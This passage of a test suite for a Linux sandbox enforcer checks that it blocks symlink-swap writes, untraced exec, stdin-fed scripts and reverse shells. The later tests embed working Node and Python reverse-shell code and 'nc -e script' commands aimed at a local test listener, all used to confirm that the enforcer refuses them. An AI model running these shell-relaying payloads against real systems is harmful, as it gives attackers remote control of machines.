    }
  }, 60_000);

  // The application runs inside the Landlock layer that settles files.readOnly in the kernel, so its
  // write-opens are judged at the call only. A session never entered that layer: its write-opens are
  // judged again at their exit, on the file the kernel opened, or a symlink swapped between the check
  // and the call would let it truncate and write the read-only file (security-review 5b).
  test("a session's write-opens through a symlink swapped under the check never reach the read-only file; the writable side is written", async () => {
    const dir = tmp.join(`swap-${_label}`);
    mkdirSync(`${dir}/ro`, { recursive: true });
    mkdirSync(`${dir}/app`, { recursive: true });
    writeFileSync(`${dir}/ro/conf`, "original\n");
    writeFileSync(`${dir}/app/good`, "good\n");
    const policy = ["vigil-policy 1", `files.readOnly ${dir}/ro/**`, "end", ""].join("\n");
    // the shell sleeps first: adopted meanwhile, it then becomes the probe (still an outsider)
    const { session, r } = await oneSession("seccomp", policy, ["sh", "-c", `sleep 0.3; exec ${probe("open-race")} link ${dir}/app/link ${dir}/app/good ${dir}/ro/conf 3000`]);
    const start = lifecycle(r.events, "start")[0];
    expect(start?.event === "start" ? start.mechanisms.files : undefined).toBe("landlock+ptrace");
    expect(r.events.some((e) => e.kind === "exec" && e.mechanism === "attach"), describeExecs(r.events)).toBe(true);
    const m = /^open-race n=3000 ok=(\d+) refused=(\d+) last=(-?\d+)$/m.exec(session.stdout);
    expect(m, `${session.stdout}\n${session.stderr}`).not.toBeNull();
    expect(readFileSync(`${dir}/ro/conf`, "utf8")).toBe("original\n");
    expect(Number(m?.[1])).toBeGreaterThan(0);
    expect(Number(m?.[2])).toBeGreaterThan(0);
    expect(readFileSync(`${dir}/app/good`, "utf8")).toBe(`${m?.[3]}\n`);
  }, 60_000);

  // With --mechanism landlock and exec rules only, the application has no seccomp filter: Landlock
  // refuses its denied programs even in processes ptrace does not follow. A session never entered
  // that layer, so it must still get the filter that closes the ways around ptrace
  // (CLONE_UNTRACED, clone3), or its untraced child could run anything.
  test("under --mechanism landlock, a session's untraced child cannot run a denied program; its traced ones can run allowed ones", async () => {
    const dir = tmp.join(`untraced-${_label}`);
    mkdirSync(dir, { recursive: true });
    const denied = `${dir}/denied-marker`;
    copyFileSync(probe("marker"), denied);
    chmodSync(denied, 0o755);
    const policy = ["vigil-policy 1", `exec.deny ${denied}`, "end", ""].join("\n");
    const { session, r } = await oneSession("landlock", policy, [
      "sh",
      "-c",
      `sleep 0.3; ${probe("untraced-exec")} ${denied} ${dir}/ran >/dev/null 2>&1; echo "untraced=$?"; /usr/bin/true; echo "true=$?"`,
    ]);
    const start = lifecycle(r.events, "start")[0];
    expect(start?.event === "start" ? start.mechanisms.seccomp : undefined).toBe(false);
    expect(existsSync(`${dir}/ran`), `${session.stdout}\n${describeExecs(r.events)}`).toBe(false);
    expect(session.stdout).toMatch(/^untraced=(?!0$)\d+$/m);
    expect(session.stdout).toMatch(/^true=0$/m);
    expect(r.events.filter((e) => e.kind === "exec" && e.mechanism === "attach").every((e) => e.kind === "exec" && e.filter === true), describeExecs(r.events)).toBe(true);
  }, 60_000);

  // The scan finds a session wherever it is, often in an execve (runc's exec helper is caught in
  // its last one): the filter used to go in at the execve's exit, the new program's entry point
  // (SIGSEGV, killed after 2 s), and a leader whose execve waits for its other threads to be
  // collected by the tracer waited while the tracer waited for it (killed after 2 s).
  test("a session caught in its execve is not killed: chains of execs, with and without other threads, run to the end", async () => {
    const run = startEnforcer({ enforcer, pidNamespace: true, mechanism: "seccomp", policy: ["vigil-policy 1", `files.readOnly ${tmp.join("nothing")}/**`, "end", ""].join("\n"), command: ["sleep", "60"], timeoutMs: 60_000 });
    const pid1 = await run.enforcerPid();
    const big = "x".repeat(120_000); // one string may not exceed 128 KiB: 8 of them, copied by every execve
    const env = { ...process.env, B1: big, B2: big, B3: big, B4: big, B5: big, B6: big, B7: big, B8: big };
    const outcomes: string[] = [];
    const SHAPES = [0, 4, 0, 4, 0, 4, 0, 4, 0, 4]; // other threads besides the leader
    for (const threads of SHAPES) {
      const r = await inNamespace(pid1, [probe("exec-chain"), "250", String(threads)], env);
      outcomes.push(`threads=${threads} code=${r.code} ${r.stdout.trim()}`);
    }
    process.kill(pid1, "SIGTERM");
    const r = await run.result;
    expect(outcomes, describeExecs(r.events)).toEqual(SHAPES.map((t) => `threads=${t} code=0 chain done`));
    expect(r.events.filter((e) => e.kind === "exec" && (e.rule === "attach.filter" || e.verdict === "blocked")), describeExecs(r.events)).toEqual([]);
    const attached = r.events.filter((e) => e.kind === "exec" && e.mechanism === "attach");
    expect(attached.length, describeExecs(r.events)).toBeGreaterThanOrEqual(3);
    expect(attached.every((e) => e.kind === "exec" && e.filter === true)).toBe(true);
  }, 60_000);

  test("fails closed: a session whose own filter refuses prctl and seccomp is killed, with an event saying why", async () => {
    const wrapper = tmp.join("own-filter.py");
    writeFileSync(
      wrapper,
      [
        `import ctypes, os, struct, sys`,
          `libc = ctypes.CDLL(None, use_errno=True)`,
          `libc.prctl.argtypes = [ctypes.c_int] + [ctypes.c_ulong] * 4`,
          `# BPF: ld nr; jeq prctl -> errno; jeq seccomp -> errno; allow`,
          `nrs = {"x86_64": (157, 317), "aarch64": (167, 277)}[os.uname().machine]`,
          `def insn(code, jt, jf, k): return struct.pack("HBBI", code, jt, jf, k)`,
          `prog = insn(0x20, 0, 0, 0) + insn(0x15, 2, 0, nrs[0]) + insn(0x15, 1, 0, nrs[1]) + insn(0x06, 0, 0, 0x7FFF0000) + insn(0x06, 0, 0, 0x00050000 | 1)`,
          `buf = ctypes.create_string_buffer(prog)`,
          `fprog = struct.pack("HxxxxxxQ", 5, ctypes.addressof(buf))`,
          `fbuf = ctypes.create_string_buffer(fprog)`,
          `assert libc.prctl(38, 1, 0, 0, 0) == 0`,
          `assert libc.prctl(22, 2, ctypes.addressof(fbuf), 0, 0) == 0, ctypes.get_errno()`,
          `os.execvp(sys.argv[1], sys.argv[1:])`,
        "",
      ].join("\n"),
    );
    const run = startEnforcer({ enforcer, pidNamespace: true, mechanism: "seccomp", policy: ["vigil-policy 1", `files.readOnly ${tmp.join("nothing")}/**`, "end", ""].join("\n"), command: ["sleep", "60"], timeoutMs: 60_000 });
    const pid1 = await run.enforcerPid();
    // the filter is installed before nsenter forks into the namespace: the session has it from its first instruction
    const session = await new Promise<number | string | null>((resolve) => {
      const child = spawn(PYTHON, [wrapper, "nsenter", "-t", String(pid1), "-p", "-m", "--", "sleep", "10"], { stdio: "ignore", timeout: 20_000 });
      child.on("close", (code, signal) => resolve(code ?? signal));
    });
    process.kill(pid1, "SIGTERM");
    const r = await run.result;
    expect(session).toBe("SIGKILL"); // nsenter dies of its child's signal
    const refused = r.events.filter((e) => e.kind === "exec" && e.rule === "attach.filter");
    // found every 5 ms: before the child nsenter forks into the namespace has exec'd sleep, or after
    expect(refused, describeExecs(r.events)).toMatchObject([{ verdict: "blocked", exe: expect.stringMatching(/^\/usr\/bin\/(sleep|nsenter)$/), mechanism: "attach", filter: false, reason: expect.stringContaining("prctl") }]);
  }, 60_000);
});

test("the test's own inputs exist", () => {
  expect(existsSync(PYTHON) && existsSync(LIBM) && existsSync(LOADER)).toBe(true);
});

// new (session 7): a dropped script fed on standard input (`sh < x.sh`) ran: drift judged script
// operands only.
describe.each(["seccomp", "landlock"] as const)("drift on standard input, mechanism %s", (mechanism) => {
  test("a new script fed to sh, bash -s, python3 and python3 - on stdin (or left open deleted) is refused; old scripts, data for -c and -m, and piped commands run", async () => {
    const r = await bash(
      mechanism,
      `printf 'echo NEW\\n' > in.sh; printf 'print("NEW")\\n' > in.py; printf '{"a": 1}\\n' > in.json; ` +
        `sh < in.sh; echo "sh=$?"; bash -s x < in.sh; echo "bash-s=$?"; ${PYTHON} < in.py; echo "python=$?"; ${PYTHON} - < in.py; echo "python-dash=$?"; ` +
        `cp in.sh gone.sh; (exec 0< gone.sh; rm gone.sh; exec sh); echo "deleted=$?"; ` +
        `sh < old-script; sh -c 'read l; echo "c-read-$l"' < in.sh; ${PYTHON} -c 'import sys; print("py-c", sys.stdin.read().strip())' < in.py; ` +
        `${PYTHON} -m json.tool --compact < in.json; printf 'echo piped-ok\\n' | sh`,
    );
    expect(r.stdout.trim().split("\n")).toEqual([
      "sh=126",
      "bash-s=126",
      "python=126",
      "python-dash=126",
      "deleted=126",
      "old-script-ran",
      "c-read-echo NEW",
      'py-c print("NEW")',
      '{"a":1}',
      "piped-ok",
    ]);
    expectBlockedBy(r, "exec.drift", 5);
  });
});

// new (session 7): `nc -e /usr/bin/script` (or ncat -e): a program that is no shell puts the
// connection on stdio and runs `script`, which gives the shell it starts a terminal of its own. The
// shell's stdio is no socket and its parent no shell: the operator got a shell with a TTY.
describe.each(["seccomp", "landlock"] as const)("a shell behind a terminal on the connection, mechanism %s", (mechanism) => {
  test("nc -e script (script -q /dev/null, and script -qc sh) is refused; script without a connection, and nc -e of a program that is no shell, run", async () => {
    for (const args of [["-q", "/dev/null"], ["-qc", "/bin/sh", "/dev/null"]]) {
      const a = await attacker("127.0.0.1");
      try {
        const r = await runEnforcer({ mechanism, policy: POLICY, command: [probe("nc-exec"), "127.0.0.1", String(a.port), "/usr/bin/script", ...args], env: { SHELL: "/bin/sh" }, cwd: tmp.path, timeoutMs: 20_000 });
        expectBlockedBy(r, "exec.reverseShell");
        expect(a.bytes()).not.toContain("SHELL-42");
      } finally {
        await a.close();
      }
    }
    const echo = await tcpListener("127.0.0.1", "from-the-peer\n");
    try {
      const r = await bash(mechanism, `script -qc 'echo pty-ok' /dev/null | tr -d '\\r'; timeout 2 ${probe("nc-exec")} 127.0.0.1 ${echo.port} /usr/bin/head -n 1; echo "head=$?"`);
      expect(r.stdout.trim().split("\n")).toEqual(["pty-ok", "head=0"]);
      expect(echo.bytes()).toBe("from-the-peer\n"); // head printed the peer's line back to it
      expect(blockedExecs(r.events)).toEqual([]);
    } finally {
      await echo.close();
    }
  });
});

// new (session 7): the interpreter relays the shell itself. Node's reverse shell from every cheat
// sheet spawns `/bin/sh` with pipes and only then connects (`client.pipe(sh.stdin);
// sh.stdout.pipe(client)`); Python's connects first, then starts `sh` on pipes and copies both
// ways. The shell's stdio are pipes (no socket), its parent an interpreter (not a relay), and the
// commands ran.
describe.each(["seccomp", "landlock"] as const)("an interpreter relaying a shell it started, mechanism %s", (mechanism) => {
  const NET_POLICY = POLICY.replace("end\n", "network.connect.deny 192.0.2.1/32\nend\n");
  const NODE_SHELL = (port: number) =>
    `(function(){var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var client=new net.Socket();` +
    `client.on("error",function(e){console.log("client",e.code);sh.kill();});sh.on("exit",function(){client.destroy();});` +
    `client.connect(${port},"127.0.0.1",function(){client.pipe(sh.stdin);sh.stdout.pipe(client);sh.stderr.pipe(client);});})();`;
  const PYTHON_SHELL = (port: number) =>
    `import socket, subprocess, threading\ns = socket.create_connection(("127.0.0.1", ${port}))\n` +
    `try:\n    p = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)\nexcept OSError as e:\n    print("popen", e.errno); raise SystemExit\n` +
    `threading.Thread(target=lambda: [p.stdin.write(d) or p.stdin.flush() for d in iter(lambda: s.recv(4096), b"")], daemon=True).start()\n` +
    `for d in iter(lambda: p.stdout.read1(4096), b""): s.sendall(d)\n`;

  test.each([
    ["node: spawn, then connect (network.connect rules)", NET_POLICY, (port: number) => ["/usr/bin/node", "-e", NODE_SHELL(port)]],
    ["python: connect, then Popen (no network.connect rules)", POLICY, (port: number) => [PYTHON, "-c", PYTHON_SHELL(port)]],
  ] as const)("%s: refused; a piped sh without a connection, and sh -c next to one, run", async (_name, policy, argv) => {
    const a = await attacker("127.0.0.1");
    try {
      const r = await runEnforcer({ mechanism, policy, command: [...argv(a.port)], cwd: tmp.path, timeoutMs: 20_000 });
      expect(a.bytes()).not.toContain("SHELL-42");
      const refused = r.events.filter((e) => "rule" in e && e.verdict === "blocked" && e.rule === "exec.reverseShell");
      expect(refused.length, describeExecs(r.events)).toBeGreaterThanOrEqual(1);
    } finally {
      await a.close();
    }
    const peer = await tcpListener("127.0.0.1");
    try {
      const neighbours =
        `node -e 'const sh=require("child_process").spawn("/bin/sh",[]); sh.stdout.on("data",d=>process.stdout.write(d)); sh.stdin.end("echo node-piped-ok\\n")'; ` +
        `${PYTHON} -c 'import socket, subprocess; s = socket.create_connection(("127.0.0.1", ${peer.port})); print(subprocess.run("echo py-c-ok", shell=True, capture_output=True).stdout.decode().strip())'`;
      const r = await runEnforcer({ mechanism, policy: NET_POLICY, command: ["bash", "-c", neighbours], cwd: tmp.path, timeoutMs: 20_000 });
      expect(r.stdout.trim().split("\n")).toEqual(["node-piped-ok", "py-c-ok"]);
      expect(blockedExecs(r.events)).toEqual([]);
    } finally {
      await peer.close();
    }
  });
});
